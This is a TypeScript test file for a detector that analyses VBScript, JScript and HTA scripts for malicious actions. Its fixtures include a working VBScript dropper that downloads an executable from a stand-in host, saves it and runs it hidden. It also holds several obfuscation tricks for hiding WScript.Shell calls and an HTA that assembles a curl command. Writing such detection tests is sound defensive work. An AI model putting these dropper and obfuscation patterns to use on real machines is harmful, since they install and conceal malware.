import fc from 'fast-check'
import { expect, test } from 'vitest'
import type { ActKind } from '../../act.ts'
import { textFile } from '../python/testing.ts'
import createReader from './reader.ts'

const reader = createReader({ file: () => undefined, resolve: () => undefined, environment: new Map() })
const read = (text: string, name = 'a.vbs') => reader.read(textFile(name, text)).acts
const of = (kind: ActKind, text: string, name?: string) => read(text, name).filter((act) => act.kind === kind)

const DROPPER = `On Error Resume Next
Set http = CreateObject("MSXML2.XMLHTTP")
http.Open "GET", "https://x.invalid/a.exe", False
http.Send
Set stream = CreateObject("ADODB.Stream")
stream.Type = 1
stream.Open
stream.Write http.responseBody
stream.SaveToFile "C:\\Temp\\a.exe", 2
CreateObject("WScript.Shell").Run "C:\\Temp\\a.exe", 0, False
`

test('fetched, written, started out of sight', () => {
  expect(of('download', DROPPER)[0]).toMatchObject({
    values: ['https://x.invalid/a.exe'],
    where: { line: 3 },
  })
  expect(of('write-file', DROPPER)[0]).toMatchObject({ values: ['C:\\Temp\\a.exe'], origins: ['network'] })
  expect(of('run-program', DROPPER)[0]).toMatchObject({ values: ['C:\\Temp\\a.exe'], where: { line: 10 } })
  expect(of('hide', DROPPER)).toHaveLength(1)
})

test.each([
  [
    'codes',
    `Execute ${[...'CreateObject("WScript.Shell").Run "x y", 0'].map((c) => `Chr(${c.charCodeAt(0)})`).join(' & ')}`,
  ],
  [
    'a reversed text',
    `ExecuteGlobal StrReverse("${[...'CreateObject(""WScript.Shell"").Run ""x y"", 0'].reverse().join('')}")`,
  ],
  ['replaced letters', 'Execute Replace("Cre#ateObj#ect(""WScript.Shell"").Run ""x y"", 0", "#", "")'],
  [
    'a function and a loop',
    `Function d(s)\n Dim r, i\n For Each i In Split(s, ",")\n  r = r & Chr(i - 1)\n Next\n d = r\nEnd Function\nExecute d("${[...'CreateObject("WScript.Shell").Run "x y", 0'].map((c) => c.charCodeAt(0) + 1).join(',')}")`,
  ],
])('code out of %s', (_, code) => {
  expect(
    of('run-code', code)[0]?.origins.some((origin) => origin === 'decoded' || origin === 'assembled'),
  ).toBe(true)
  expect(of('run-program', code)[0]?.values).toEqual(['x y'])
})

test('JScript in an HTA, on its line', () => {
  const page =
    '<html><head>\n<script language="JScript">\nvar s = new ActiveXObject("WScript.Shell");\ns.Run("cm" + "d /c curl https://x.invalid", 0);\n</script>'
  const [act] = of('run-program', page, 'a.hta')
  expect(act).toMatchObject({ where: { line: 4 } })
  expect(act?.origins).toContain('assembled')
  expect(of('download', page, 'a.hta').length).toBeGreaterThan(0)
})

test('VBScript in an HTA', () => {
  const page =
    '<script language="VBScript">\nSet s = CreateObject("WScript.Shell")\ns.Run "calc x", 0\n</script>'
  expect(of('run-program', page, 'a.hta')[0]).toMatchObject({ values: ['calc x'], where: { line: 3 } })
})

test('honest scripts', () => {
  expect(
    read('\' CreateObject("WScript.Shell").Run\nDim x\nx = MsgBox("Hello")\nIf x = 1 Then WScript.Quit\n'),
  ).toEqual([])
})

test('nothing makes it throw', () => {
  const parts = [
    'Set x = ',
    'CreateObject(',
    '"a"',
    ')',
    '.Run ',
    '&',
    'For i = 1 To 3',
    '\n',
    'Next',
    'Execute ',
    'x',
    '(',
    ',',
    'Function f(a)',
    'End Function',
    'f(',
    '[',
    '{',
    '}',
  ]
  fc.assert(
    fc.property(
      fc.array(fc.constantFrom(...parts), { maxLength: 50 }),
      fc.boolean(),
      (list, js) => void read(list.join(''), js ? 'a.jse' : 'a.vbs'),
    ),
  )
  expect(() => read('('.repeat(100_000))).not.toThrow()
  expect(() => read('Function f(a)\nf = f(a) & f(a)\nEnd Function\nx = f(1)')).not.toThrow()
})
